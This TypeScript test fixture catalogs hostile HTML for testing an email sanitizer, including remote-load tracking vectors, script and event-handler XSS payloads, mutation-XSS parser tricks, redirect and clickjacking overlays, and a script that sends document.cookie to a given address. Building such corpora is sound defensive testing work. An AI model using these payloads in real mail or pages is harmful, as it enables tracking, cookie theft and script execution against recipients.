/** Every way in which a mail's HTML may try to reach another machine, to run, to stay or to mislead, by name. */
export const hostileHtml: Readonly<Record<string, (address: string) => string>> = {
  // loads
  img: (to) => `<img src="${to}" alt="">`,
  'img-protocol-relative': (to) => `<img src="${to.replace('http:', '')}" alt="">`,
  'img-backslash': (to) => `<img src="${to.replace('//', '\\\\')}" alt="">`,
  'img-tabs': (to) => `<img src="h&#9;tt&#10;p:${to.slice(5)}" alt="">`,
  srcset: (to) => `<img srcset="${to} 1x, ${to} 2x" alt="">`,
  picture: (to) => `<picture><source srcset="${to}"><img alt=""></picture>`,
  'input-image': (to) => `<input type="image" src="${to}" alt="">`,
  'table-background': (to) => `<table background="${to}"><tr><td background="${to}">a</table>`,
  'body-background': (to) => `<body background="${to}">a</body>`,
  'style-background': (to) => `<div style="background: url(${to})">a</div>`,
  'style-escaped': (to) => `<div style="background: u\\72 l('${to}')">a</div>`,
  'style-entities': (to) => `<div style="background&#58; url&#40;${to}&#41;">a</div>`,
  'style-comment': (to) => `<div style="background/**/:/**/url(${to})">a</div>`,
  'image-set': (to) => `<div style="background-image: image-set('${to}' 1x)">a</div>`,
  'webkit-image-set': (to) => `<div style="background-image: -webkit-image-set(url(${to}) 1x)">a</div>`,
  'cross-fade': (to) => `<div style="background: -webkit-cross-fade(url(${to}), url(${to}), 50%)">a</div>`,
  'css-content': (to) => `<style>i::before { content: url(${to}) }</style><i>a</i>`,
  'css-cursor': (to) => `<div style="cursor: url(${to}), auto; width: 9999px; height: 9999px">a</div>`,
  'css-list': (to) => `<ul style="list-style: url(${to})"><li>a</ul>`,
  'css-border-image': (to) => `<div style="border: 9px solid; border-image: url(${to}) 9">a</div>`,
  'css-mask': (to) => `<div style="mask: url(${to}#a); -webkit-mask-image: url(${to})">a</div>`,
  'css-filter': (to) => `<div style="filter: url(${to}#a)">a</div>`,
  'css-variable': (to) =>
    `<style>:root { --a: url(${to}) } b { background: var(--a, env(x)) }</style><b>a</b>`,
  'css-attr': (to) => `<div data-a="${to}" style="background: attr(data-a type(&lt;url&gt;))">a</div>`,
  'css-import': (to) => `<style>@import url("${to}"); @import "${to}";</style>`,
  'css-font': (to) =>
    `<style>@font-face { font-family: E; src: url("${to}") } i { font-family: E }</style><i>a</i>`,
  'css-breakout': (to) => `<div style="color: red} @import url(${to}); a{">a</div>`,
  'css-attribute-selector': (to) =>
    `<style>a[href*="a"] { background: url(${to}) }</style><a href="/a">a</a>`,
  stylesheet: (to) => `<link rel="stylesheet" href="${to}">`,
  icon: (to) => `<link rel="shortcut icon" href="${to}"><link rel="apple-touch-icon" href="${to}">`,
  manifest: (to) => `<link rel="manifest" href="${to}">`,
  preconnect: (to) => `<link rel="preconnect" href="${to}">`,
  'dns-prefetch': (to) =>
    `<meta http-equiv="x-dns-prefetch-control" content="on"><link rel="dns-prefetch" href="${to}"><a href="${to}">a</a>`,
  prefetch: (to) => `<link rel="prefetch" href="${to}"><link rel="prerender" href="${to}">`,
  preload: (to) => `<link rel="preload" as="image" href="${to}"><link rel="modulepreload" href="${to}">`,
  import: (to) => `<link rel="import" href="${to}">`,
  video: (to) => `<video src="${to}" poster="${to}" autoplay muted></video>`,
  audio: (to) => `<audio src="${to}" autoplay></audio><bgsound src="${to}">`,
  source: (to) => `<video autoplay muted><source src="${to}"><track src="${to}" default></video>`,
  iframe: (to) => `<iframe src="${to}"></iframe><frameset><frame src="${to}"></frameset>`,
  srcdoc: (to) => `<iframe srcdoc="<img src='${to}'>"></iframe>`,
  object: (to) => `<object data="${to}"><embed src="${to}"></object>`,
  applet: (to) => `<applet code="a" codebase="${to}"></applet>`,
  'svg-image': (to) => `<svg><image href="${to}" xlink:href="${to}" width="9" height="9"/></svg>`,
  'svg-use': (to) => `<svg><use href="${to}#a"/><use xlink:href="${to}#a"/></svg>`,
  'svg-foreign': (to) =>
    `<svg><foreignObject><img xmlns="http://www.w3.org/1999/xhtml" src="${to}"></foreignObject></svg>`,
  'svg-animate': (to) =>
    `<svg><image width="9" height="9"><set attributeName="href" to="${to}"/></image></svg>`,
  'svg-style': (to) => `<svg><style><p><img src="${to}"></style></svg>`,
  'svg-data': (to) =>
    `<img alt="" src="data:image/svg+xml;base64,${Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg"><image href="${to}"/></svg>`).toString('base64')}">`,
  mathml: (to) =>
    `<math href="${to}"><mi style="background:url(${to})">a</mi><annotation-xml encoding="text/html"><img src="${to}"></annotation-xml></math>`,
  template: (to) =>
    `<template><img src="${to}"></template><template shadowrootmode="open"><img src="${to}"></template>`,
  noscript: (to) => `<noscript><img src="${to}" alt=""></noscript>`,
  namespace: (to) =>
    `<html xmlns:a="http://www.w3.org/1999/xhtml"><a:img src="${to}"></a:img><?xml-stylesheet href="${to}"?>`,
  conditional: (to) =>
    `<!--[if gte mso 9]><img src="${to}"><![endif]--><![if !mso]><img src="${to}"><![endif]>`,
  'cid-trick': (to) =>
    `<img src="cid:${to}"><img src="cid:../picture-1?${to}"><img src="cid:picture-1#${to}">`,
  mhtml: (to) => `<img src="mhtml:${to}!a"><a href="mhtml:${to}!a">a</a>`,
  speculation: (to) =>
    `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${to}"]}],"prerender":[{"source":"list","urls":["${to}"]}]}</script>`,
  // runs
  script: (to) => `<script src="${to}"></script><SCRIPT/SRC="${to}"></SCRIPT>`,
  'script-inline': (to) =>
    `<script>fetch("${to}"); new Image().src = "${to}"; navigator.sendBeacon("${to}")</script>`,
  'script-split': (to) => `<scr<script>ipt>new Image().src="${to}"</scr</script>ipt>`,
  module: (to) => `<script type="module">import "${to}"</script>`,
  handler: (to) =>
    `<img src=x onerror="new Image().src='${to}'"><details open ontoggle="new Image().src='${to}'">a</details>`,
  'handler-focus': (to) =>
    `<input autofocus onfocus="new Image().src='${to}'"><p onanimationstart="new Image().src='${to}'" style="animation:a 1s">a</p>`,
  'handler-svg': (to) =>
    `<svg onload="new Image().src='${to}'"><animate onbegin="new Image().src='${to}'" attributeName="x" dur="1s"/></svg>`,
  'javascript-frame': (to) => `<iframe src="javascript:new Image().src='${to}'"></iframe>`,
  cookie: (to) =>
    `<script>document.cookie='a=1';localStorage.a=1;indexedDB.open('a');new Image().src='${to}?'+document.cookie</script>`,
  socket: (to) => `<script>new WebSocket("${to.replace('http', 'ws')}");new EventSource("${to}")</script>`,
  window: (to) => `<script>window.open("${to}");top.location="${to}"</script>`,
  // mutates
  'mxss-style': (to) => `<svg></p><style><a id="</style><img src=${to}>">`,
  'mxss-math': (to) => `<form><math><mtext></form><form><mglyph><style></math><img src=${to}>`,
  'mxss-table': (to) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=${to}&gt;">`,
  'mxss-noscript': (to) => `<noscript><p title="</noscript><img src=${to}>">`,
  'mxss-textarea': (to) =>
    `<textarea><p title="</textarea><img src=${to}>"></textarea><title><p title="</title><img src=${to}>">`,
  'mxss-comment': (to) => `<!--><img src=${to}>--><!--!><img src=${to}>--!>`,
  'mxss-select': (to) => `<select><template><style><!--</style><img src=${to}></template></select>`,
  'mxss-xmp': (to) => `<xmp><p title="</xmp><img src=${to}>"></xmp><plaintext><img src=${to}>`,
  'data-css': (to) => `<p data-css="background:url(${to})" data-kept-out="<img src=${to}>">a</p>`,
  nesting: (to) => `${'<div><b>'.repeat(600)}<img src="${to}">${'</b></div>'.repeat(600)}`,
  // goes away
  refresh: (to) => `<meta http-equiv="refresh" content="0; url=${to}">`,
  base: (to) => `<base href="${to}/"><img src="a.png"><a href="b">a</a>`,
  form: (to) => `<form action="${to}"><input name=a value=b><button formaction="${to}">a</button></form>`,
  ping: (to) => `<a href="#a" ping="${to}">a</a><area href="#a" ping="${to}">`,
  overlay: (to) => `<a href="${to}" style="position:fixed;inset:0;z-index:9999;opacity:0">a</a>`,
};
